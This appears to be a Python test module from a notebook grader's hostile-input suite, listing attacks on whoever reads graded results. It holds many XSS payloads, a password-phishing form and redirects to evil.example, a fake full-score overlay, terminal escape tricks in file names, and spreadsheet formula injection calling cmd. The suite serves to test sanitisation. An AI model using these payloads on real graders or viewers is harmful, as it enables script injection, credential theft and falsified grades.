"""Submissions that go for whoever reads the results: in a browser, a spreadsheet or a terminal."""

# A payload reads best on one line, however long.
# ruff: noqa: E501

from __future__ import annotations

import base64
from typing import Any

from tests.hostile.attack import Attack, Edit
from tests.hostile.attacks.pieces import calling
from tests.hostile.course import own_cell

GROUP = "attack the reader"


def _shows(name: str, data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Attack:
    """An output of raw MIME data, however wrong."""
    source = (
        "from IPython.display import publish_display_data\n"
        f"publish_display_data({data!r}, metadata={metadata or {}!r})"
    )
    return Attack(name, GROUP, "page", {"extra": source})


def _html(name: str, html: str) -> Attack:
    return _shows(name, {"text/html": html, "text/plain": "table"})


def _answers(name: str, text: str) -> Attack:
    """Markdown as the answer that a person grades."""
    return Attack(name, GROUP, "page", {"answer_why": text})


def _edits(name: str, edit: Edit) -> Attack:
    return Attack(name, GROUP, "page", edit=edit)


def _attachment(notebook: dict[str, Any]) -> None:
    cell = own_cell("![picture](attachment:a.png)", "attached", "markdown")
    cell["attachments"] = {"a.png": {"image/svg+xml": _encoded(_SVG), "text/html": _SCRIPT}}
    breaks = own_cell("![picture](attachment:b.png)", "breaks", "markdown")
    breaks["attachments"] = {"b.png": {"image/png": 'x" onerror="alert(1)'}}
    notebook["cells"] += [cell, breaks]


def _tags(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ['x" onmouseover="alert(1)" y="', "x><script>alert(1)</script>"]


def _language(notebook: dict[str, Any]) -> None:
    breaks = 'python"><script>alert(1)</script>'
    notebook["metadata"]["language_info"] = {"name": breaks, "pygments_lexer": breaks}
    notebook["metadata"]["title"] = "</title><script>alert(1)</script>"
    notebook["metadata"]["kernelspec"] = {"name": breaks, "language": breaks, "display_name": "x"}


def _identifiers(notebook: dict[str, Any]) -> None:
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f'x{number}"><script>alert(1)</script>'


def _grade_ids(notebook: dict[str, Any]) -> None:
    for number, cell in enumerate(notebook["cells"]):
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["grade_id"] = f'x{number}"><script>alert(1)</script>'


def _widgets(notebook: dict[str, Any]) -> None:
    state = {"state": {"x": "</script><script>alert(1)</script>"}, "version_major": 2}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}


def _execution_count(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = "<script>alert(1)</script>"


def _raw_cell(notebook: dict[str, Any]) -> None:
    cell = own_cell("<script>alert(1)</script>", "raw", "markdown")
    cell["cell_type"] = "raw"
    cell["metadata"] = {"raw_mimetype": "text/html", "format": "text/html"}
    notebook["cells"].append(cell)


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_SCRIPT = "<script>alert(1)</script>"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
_COVER = (
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white;"
    "z-index:99999'><h4>hostile (Score: 37.0 / 37.0)</h4></div>"
)
_PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"<script>alert(1)</script>").decode()

ATTACKS = (
    _html("script", _SCRIPT),
    _html("script_uppercase", "<ScRiPt\n>alert(1)</sCrIpT>"),
    _html("script_unclosed", "<script src=//evil.example/x.js "),
    _html("handler", "<img src=x onerror=alert(1)>"),
    _html("handler_slashes", "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>"),
    _html(
        "handler_focus",
        "<a tabindex=1 autofocus onfocus=alert(1)>x</a><details ontoggle=alert(1) open>",
    ),
    _html(
        "javascript_link",
        "<a href='java&#115;cript:alert(1)'>click</a><a href='\tjavascript:alert(1)'>x</a>",
    ),
    _html("data_link", f"<a href='data:text/html;base64,{_encoded(_SCRIPT)}'>click</a>"),
    _html(
        "iframe",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    ),
    _html(
        "form",
        "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    ),
    _html(
        "meta_refresh",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    ),
    _html("style_element", "<style>.score{display:none}body::after{content:'37/37'}</style>"),
    _html(
        "style_import",
        "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css'</style>",
    ),
    _html("style_cover", _COVER),
    _html(
        "remote_picture",
        "<img src='https://evil.example/seen.png'><div style=\"background:url('https://evil.example/seen.png')\">x</div>",
    ),
    _html(
        "confused_parser",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    ),
    _html(
        "noscript",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>alert(1)</script></template>",
    ),
    _shows("svg", {"image/svg+xml": _SVG, "text/plain": "picture"}),
    _html(
        "svg_in_html",
        "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    ),
    _shows("javascript", {"application/javascript": "alert(1)", "text/plain": "x"}),
    _shows("latex", {"text/latex": "<img src=x onerror=alert(1)>$$x$$", "text/plain": "x"}),
    _shows(
        "markdown_output",
        {"text/markdown": "<script>alert(1)</script>\n\n[x](javascript:alert(1))"},
    ),
    _shows(
        "widget_view",
        {
            "application/vnd.jupyter.widget-view+json": {
                "model_id": "</script><script>alert(1)</script>",
                "version_major": 2,
            },
            "text/html": _SCRIPT,
        },
    ),
    _shows("image_forged", {"image/png": 'AAAA" onerror="alert(1)', "text/plain": "x"}),
    _shows("image_forged_jpeg", {"image/jpeg": '"><script>alert(1)</script>', "text/plain": "x"}),
    _shows(
        "image_size",
        {"image/png": _PIXEL},
        {"image/png": {"width": '1" onload="alert(1)', "height": '1" onerror="alert(1)'}},
    ),
    _shows(
        "image_alt",
        {"image/png": _PIXEL, "text/plain": "x"},
        {"image/png": {"alt": 'x" onerror="alert(1)', "needs_background": 'x" onload="alert(1)'}},
    ),
    _shows(
        "list_for_text", {"text/html": ["<scr", "ipt>alert(1)</scr", "ipt>"], "text/plain": ["x"]}
    ),
    _answers("answer_script", "Because.\n\n<script>alert(1)</script>"),
    _answers(
        "answer_handler", "Because <img src=x onerror='alert(1)'> and <b onclick=alert(1)>so</b>."
    ),
    _answers(
        "answer_link",
        "[Because](javascript:alert(1)) and [so][1].\n\n[1]: javascript:alert(1)\n\n<javascript:alert(1)>",
    ),
    _answers(
        "answer_link_encoded",
        "[x](&#x6A;avascript:alert(1)) [y](java&Tab;script:alert&lpar;1&rpar;) [z](JaVaScRiPt:alert(1))",
    ),
    _answers(
        "answer_picture",
        '![x](javascript:alert(1)) ![y](https://evil.example/seen.png "a\\" onload=alert(1)")',
    ),
    _answers("answer_svg", "Because.\n\n" + _SVG),
    _answers("answer_style", "<style>body{display:none}</style>\n\n" + _COVER),
    _answers(
        "answer_code_fence",
        '```html\n</code></pre><script>alert(1)</script>\n```\n\n``` "><script>alert(1)</script>\nx\n```\n\n<script>alert(1)</script>',
    ),
    _answers(
        "answer_mathematics",
        "$$\\href{javascript:alert(1)}{x}$$ $<img src=x onerror=alert(1)>$ $</script><script>alert(1)</script>$",
    ),
    _edits("attachments", _attachment),
    _edits("tags_as_classes", _tags),
    _edits("language_and_title", _language),
    _edits("cell_identifiers", _identifiers),
    _edits("grade_identifiers", _grade_ids),
    _edits("widget_state", _widgets),
    _edits("execution_count", _execution_count),
    _edits("raw_cell", _raw_cell),
    Attack(
        "traceback_names",
        GROUP,
        "page",
        {
            "extra": "raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=alert(1)>')"
        },
    ),
    Attack(
        "message_to_the_judge",
        GROUP,
        "page",
        {
            "propagate": calling(
                "raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')",
                "propagate",
                "w, b, X, Y",
            )
        },
    ),
    Attack(
        "key_names_to_the_judge",
        GROUP,
        "page",
        {
            "propagate": calling(
                "return {'<script>alert(1)</script>': 1}, 0.0", "propagate", "w, b, X, Y"
            )
        },
    ),
    Attack("terminal_in_file_name", GROUP, "terminal", notebook="a\x1b]0;owned\x07\x1b[2J.ipynb"),
    Attack("terminal_direction", GROUP, "terminal", notebook="a\u202egpj.\u2066ipynb.ipynb"),
    Attack(
        "terminal_line_in_file_name", GROUP, "terminal", notebook="a\x08\x08\x9b31m\rgraded.ipynb"
    ),
    Attack(
        "formula_in_file_name", GROUP, "table", notebook="x,=HYPERLINK('https:evil.example').ipynb"
    ),
    Attack("formula_as_file_name", GROUP, "table", notebook="a,@SUM(1+9)*cmd|' C calc'!A0.ipynb"),
    Attack("formula_as_student", GROUP, "table", student="=cmd|' C calc'!A0"),
)
